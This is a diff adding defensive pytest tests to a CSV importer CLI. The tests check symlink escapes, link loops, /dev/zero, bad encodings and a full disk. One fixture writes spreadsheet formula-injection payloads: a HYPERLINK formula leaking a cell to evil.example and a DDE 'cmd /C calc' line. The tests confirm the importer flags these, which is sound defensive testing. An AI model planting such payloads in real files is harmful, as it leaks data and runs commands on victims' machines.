@@ -131,3 +131,105 @@ def test_written_turtle_loads_with_the_shared_prefixes(folders):
     result = import_csv(FIXTURES / "new-agencies.csv", "agency", ontology, data, consistency=False)
     assert result.target.read_text(encoding="utf-8").startswith("@prefix coop: <https://w3id.org/coopgraph/ontology#>")
     assert len(load(ontology, data)) > 0
+
+
+# Hostile input and faults of the machine: each is exit 2 (or a warning), names the file, and writes nothing.
+
+def test_a_link_out_of_the_data_folder_is_refused_unread(folders, tmp_path, cli):
+    ontology, data = folders
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.ttl").write_text("this line must never be printed\n", encoding="utf-8")
+    (data / "secret.ttl").symlink_to(outside / "secret.ttl")
+    result = cli("import", str(FIXTURES / "new-agencies.csv"), "--kind", "agency", "--ontology", str(ontology),
+                 "--data", str(data))
+    assert result.returncode == 2, result.stderr
+    assert "secret.ttl" in result.stderr and "outside the folder" in result.stderr
+    assert "must never be printed" not in result.stdout + result.stderr
+    assert not (data / "imported-agency-new-agencies.ttl").exists()
+
+
+def test_a_link_loop_in_the_data_folder_is_exit_2(folders, cli):
+    ontology, data = folders
+    (data / "a.ttl").symlink_to("b.ttl")
+    (data / "b.ttl").symlink_to("a.ttl")
+    result = cli("import", str(FIXTURES / "new-agencies.csv"), "--kind", "agency", "--ontology", str(ontology),
+                 "--data", str(data))
+    assert result.returncode == 2 and "link loop" in result.stderr and "Traceback" not in result.stderr
+
+
+def test_formula_cells_import_as_text_with_a_warning(folders, tmp_path, cli):
+    ontology, data = folders
+    sheet = tmp_path / "formulas.csv"
+    sheet.write_text('id,label,country,source\n'
+                     'fixture-formula,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",ca,seed-report\n'
+                     "fixture-dde,=cmd|' /C calc'!A0,ca,seed-report\n", encoding="utf-8")
+    result = cli("import", str(sheet), "--kind", "agency", "--ontology", str(ontology), "--data", str(data),
+                 "--dry-run")
+    assert result.returncode == 0, result.stderr
+    assert "formulas.csv:2: column label: starts with '='" in result.stderr
+    assert "formulas.csv:3: column label: starts with '='" in result.stderr
+
+
+def test_dev_zero_is_refused(folders, cli):
+    ontology, data = folders
+    result = cli("import", "/dev/zero", "--kind", "agency", "--ontology", str(ontology), "--data", str(data),
+                 timeout=60)
+    assert result.returncode == 2 and "not a regular file" in result.stderr, result.stderr
+
+
+@pytest.mark.parametrize(("encoding", "line", "words"), [
+    ("latin-1", 3, "not UTF-8: byte 0xE9 at column 16"),
+    ("utf-16", 1, "UTF-16"),
+])
+def test_a_sheet_not_in_utf8_is_refused_at_its_line(folders, tmp_path, cli, encoding, line, words):
+    ontology, data = folders
+    sheet = tmp_path / "sheet.csv"
+    sheet.write_bytes("id,label,country,source\nfixture-a,Plain,ca,seed-report\nfixture-b,Montr\xe9al,ca,x\n"
+                      .encode(encoding))
+    result = cli("import", str(sheet), "--kind", "agency", "--ontology", str(ontology), "--data", str(data))
+    assert result.returncode == 2, result.stderr
+    assert f"sheet.csv:{line}: " in result.stderr and words in result.stderr and "CSV UTF-8" in result.stderr
+
+
+def test_a_line_separator_in_a_cell_keeps_the_line_numbers(tmp_path):
+    sheet = tmp_path / "sheet.csv"
+    sheet.write_text("id,label,country,source\nfixture-a,A\u2028B,ca,seed-report\nfixture-b,,ca,seed-report\n",
+                     encoding="utf-8")
+    rows, problems = read_rows(sheet, KINDS["agency"])
+    assert [row.line for row in rows] == [2, 3] and problems == []
+    assert rows[0].cells["label"] == "A\u2028B"
+
+
+@pytest.fixture
+def small_disk(tmp_path: Path):
+    """A real 1 MiB tmpfs (needs root): a full disk, not a pretend one."""
+    import subprocess
+
+    mount = tmp_path / "disk"
+    mount.mkdir()
+    made = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1M", "tmpfs", str(mount)], capture_output=True)
+    if made.returncode != 0:
+        pytest.skip("cannot mount a tmpfs here (needs root)")
+    try:
+        yield mount
+    finally:
+        subprocess.run(["umount", "-l", str(mount)], check=False)
+
+
+def test_a_full_disk_during_import_is_exit_2_and_leaves_nothing(small_disk, cli):
+    data = small_disk / "data"
+    shutil.copytree(paths.data_dir(), data)
+    filler = small_disk / "filler"
+    with filler.open("wb", buffering=0) as handle:  # fill the disk to the last block
+        try:
+            while True:
+                handle.write(b"\0" * 4096)
+        except OSError:
+            pass
+    before = hashes(data)
+    result = cli("import", str(FIXTURES / "new-agencies.csv"), "--kind", "agency", "--data", str(data))
+    assert result.returncode == 2, result.stderr
+    assert "imported-agency-new-agencies.ttl: No space left on device" in result.stderr
+    assert "free some space" in result.stderr and "Traceback" not in result.stderr
+    assert hashes(data) == before and not list(data.glob(".*"))
